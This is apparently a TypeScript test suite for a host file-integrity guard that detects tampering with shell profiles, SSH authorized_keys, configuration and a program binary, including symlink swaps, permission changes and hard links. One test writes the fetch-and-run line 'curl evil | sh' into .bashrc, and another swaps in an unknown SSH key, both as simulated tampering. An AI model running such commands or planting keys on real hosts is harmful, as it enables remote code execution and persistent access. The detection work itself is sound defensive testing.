import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import {
  chmodSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  unlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { LIMITS } from "../../../generated/limits.ts";
import { EventBus } from "../../platform/bus.ts";
import { ManualClock } from "../../platform/clock.ts";
import { silentLogger } from "../../platform/logger.ts";
import { Store } from "../../store/store.ts";
import { Baseline } from "./baseline.ts";
import { HostGuard, type HostLimits } from "./host-guard.ts";
import { guardedPaths } from "./paths.ts";

let folder: string;
let store: Store;
let bus: EventBus;
const guards: HostGuard[] = [];
const at = (name: string) => join(folder, name);
const write = (name: string, text: string) => writeFileSync(at(name), text, { mode: 0o600 });

beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), "chela-host-")));
  store = Store.open(join(folder, "chela.sqlite"));
  bus = new EventBus();
  mkdirSync(at("home/.ssh"), { recursive: true });
  mkdirSync(at("state"));
  write("state/openclaw.json", "{}");
  write("home/.bashrc", "alias ll='ls -l'\n");
  write("home/.ssh/authorized_keys", "ssh-ed25519 AAAA mia\n");
  write("program", "a program");
});
afterEach(async () => {
  for (const guard of guards.splice(0)) await guard.stop();
  await store.close();
  rmSync(folder, { recursive: true });
});

function guard(more: { more?: string[]; limits?: Partial<HostLimits>; isEnabled?: boolean } = {}): HostGuard {
  const made = new HostGuard({
    baseline: new Baseline(store),
    paths: () =>
      guardedPaths({
        configPath: at("state/openclaw.json"),
        stateDir: at("state"),
        program: at("program"),
        home: at("home"),
        more: more.more ?? [],
        limit: 64,
      }),
    isEnabled: () => more.isEnabled ?? true,
    bus,
    clock: new ManualClock(),
    log: silentLogger,
    limits: { ...LIMITS, ...more.limits },
  });
  guards.push(made);
  return made;
}

const problems = async (of: HostGuard) =>
  (await of.check()).map(({ path, problem }) => `${path.slice(folder.length + 1)} ${problem}`);
const riskOf = async (of: HostGuard) => (await of.risk())[0]?.score ?? 0;

describe("what is found", () => {
  test("nothing at first, and nothing while nothing changes", async () => {
    const one = guard();
    expect(await problems(one)).toEqual([]);
    expect(await problems(one)).toEqual([]);
    expect(await riskOf(one)).toBe(0);
  });

  test.each([
    ["another content", () => write("home/.bashrc", "curl evil | sh\n"), "home/.bashrc content"],
    ["a new file", () => write("home/.zshenv", "x"), "home/.zshenv appeared"],
    ["a file that is gone", () => unlinkSync(at("home/.ssh/authorized_keys")), "home/.ssh/authorized_keys missing"],
    ["other permissions", () => chmodSync(at("state/openclaw.json"), 0o666), "state/openclaw.json mode"],
    ["a set-user-id bit", () => chmodSync(at("program"), 0o4600), "program mode"],
    ["a further name", () => linkSync(at("home/.bashrc"), at("other")), "home/.bashrc hard-link"],
  ] as const)("%s", async (_name, change, expected) => {
    const one = guard();
    await one.check();
    change();
    expect(await problems(one)).toContain(expected);
    expect(await riskOf(one)).toBeGreaterThanOrEqual(20);
  });

  test("a key that the gateway makes later is none, one that is gone is", async () => {
    const one = guard();
    await one.check();
    mkdirSync(at("state/defender"));
    write("state/defender/host.key", "x");
    expect(await problems(one)).toEqual([]);
    write("state/defender/host.key", "y");
    expect(await problems(one)).toEqual(["state/defender/host.key content"]);
    await one.accept("all", "mia");
    unlinkSync(at("state/defender/host.key"));
    expect(await problems(one)).toEqual(["state/defender/host.key missing"]);
    write("state/defender/host.key", "z");
    expect(await problems(one)).toEqual(expect.arrayContaining(["state/defender/host.key missing"]));
    expect(await problems(one)).toEqual(expect.arrayContaining(["state/defender/host.key content"]));
  });

  test("a link in the place of a file, with the same content", async () => {
    const one = guard();
    await one.check();
    renameSync(at("home/.bashrc"), at("elsewhere"));
    symlinkSync(at("elsewhere"), at("home/.bashrc"));
    expect(await problems(one)).toEqual(["home/.bashrc link"]);
  });

  test("a link in the place of the folder above, with the same content", async () => {
    const one = guard();
    await one.check();
    renameSync(at("home/.ssh"), at("moved"));
    symlinkSync(at("moved"), at("home/.ssh"));
    expect(await problems(one)).toEqual(["home/.ssh/authorized_keys link"]);
  });

  test("what an accepted link leads to, and where it leads", async () => {
    write("dotfiles", "mine");
    symlinkSync(at("dotfiles"), at("home/.zshrc"));
    const one = guard();
    expect(await problems(one)).toEqual([]);
    write("dotfiles", "not mine");
    expect(await problems(one)).toEqual(["home/.zshrc content"]);
    await one.accept("all", "mia");
    write("other", "not mine");
    unlinkSync(at("home/.zshrc"));
    symlinkSync(at("other"), at("home/.zshrc"));
    expect(await problems(one)).toEqual(["home/.zshrc link"]);
  });

  test("a change that keeps size and time", async () => {
    const one = guard();
    utimesSync(at("home/.bashrc"), 1000, 1000);
    await one.check();
    write("home/.bashrc", "alias ll='ls -x'\n");
    utimesSync(at("home/.bashrc"), 1000, 1000);
    expect(await problems(one)).toEqual(["home/.bashrc content"]);
  });

  test("a change of a large file, whose content is not read again otherwise", async () => {
    const one = guard({ limits: { hostLargeBytes: 4 } });
    await one.check();
    expect(await problems(one)).toEqual([]);
    truncateSync(at("program"), 5);
    expect(await problems(one)).toEqual(["program content"]);
  });

  test("a folder or a pipe in the place of a file ends no look", async () => {
    const one = guard();
    await one.check();
    unlinkSync(at("home/.bashrc"));
    Bun.spawnSync(["mkfifo", at("home/.bashrc")]);
    unlinkSync(at("program"));
    mkdirSync(at("program"));
    expect(await problems(one)).toEqual(expect.arrayContaining(["home/.bashrc link", "program link"]));
  });

  test("further paths of the configuration, within the bound", async () => {
    write("home/crontab", "x");
    const one = guard({ more: ["~/crontab", at("home/.bashrc")] });
    await one.check();
    write("home/crontab", "y");
    expect(await problems(one)).toEqual(["home/crontab content"]);
    const paths = guardedPaths({ configPath: "/c", stateDir: "/s", program: "/p", more: ["/x", "/y"], limit: 3 });
    expect(paths).toHaveLength(3);
  });
});

describe("until somebody accepts it", () => {
  test("a finding stays over a restart, and when the file was put back", async () => {
    const first = guard();
    await first.check();
    write("home/.ssh/authorized_keys", "ssh-ed25519 BBBB eve\n");
    await first.check();
    write("home/.ssh/authorized_keys", "ssh-ed25519 AAAA mia\n");
    await first.stop();
    const second = guard();
    expect(await riskOf(second)).toBe(45);
    expect(await problems(second)).toEqual(["home/.ssh/authorized_keys content"]);
    expect(await second.accept([at("home/.ssh/authorized_keys"), "/etc/shadow"], "mia")).toBe(1);
    expect(await riskOf(second)).toBe(0);
    expect(await problems(second)).toEqual([]);
    expect((await second.reports()).length).toBe(0);
  });

  test("what changed while nobody ran is found", async () => {
    const first = guard();
    await first.check();
    await first.stop();
    write("home/.bashrc", "x");
    expect(await problems(guard())).toEqual(["home/.bashrc content"]);
  });

  test("the risk says what it is about without telling the path", async () => {
    const one = guard();
    await one.check();
    write("home/.bashrc", "x");
    await one.check();
    const [finding] = await one.risk();
    expect(finding).toEqual({
      id: "host.profile-content",
      score: 35,
      reason: "The shell profile .bashrc has another content since it was accepted.",
    });
  });

  test("switched off, nothing raises the risk", async () => {
    const one = guard();
    await one.check();
    write("home/.bashrc", "x");
    await one.check();
    expect(await guard({ isEnabled: false }).risk()).toEqual([]);
  });
});

describe("while the gateway runs", () => {
  const limits = { hostFirstLookMs: 1, hostLookMs: 20, hostSettleMs: 1 };
  const until = async (condition: () => Promise<boolean>) => {
    while (!(await condition())) await Bun.sleep(5);
  };

  test("changes are found by themselves", async () => {
    const one = guard({ limits });
    one.start();
    await until(async () => (await one.watched()).every(({ state }) => state !== "new"));
    write("home/.bashrc", "x");
    await until(async () => (await riskOf(one)) > 0);
    await one.accept("all", "mia");
    write("home/.profile", "new");
    await until(async () => (await riskOf(one)) > 0);
    expect(await one.reports()).toMatchObject([{ problem: "appeared", guarded: "profile" }]);
  });

  test("the notice of the system alone is enough", async () => {
    const one = guard({ limits: { ...limits, hostLookMs: 1e8 } });
    one.start();
    await until(async () => (await one.watched()).every(({ state }) => state !== "new"));
    await until(async () => {
      write("home/.bashrc", `x${Math.random()}`);
      return (await riskOf(one)) > 0;
    });
  });

  test("what the gateway writes to its configuration is accepted, what others write is not", async () => {
    const one = guard({ limits: { ...limits, hostFirstLookMs: 1e8 } });
    one.start();
    await one.check();
    const path = at("state/openclaw.json");
    write("state/openclaw.json", '{"a":1}');
    bus.publish("config.changed", { path, hash: "x", ts: 1 });
    expect(await problems(one)).toEqual([]);
    write("state/openclaw.json", '{"a":2}');
    expect(await problems(one)).toEqual(["state/openclaw.json content"]);
    chmodSync(path, 0o666);
    expect(await problems(one)).toContain("state/openclaw.json mode");
    bus.publish("config.changed", { path, hash: "x", ts: 2 });
    expect(await problems(one)).toContain("state/openclaw.json mode");
  });
});
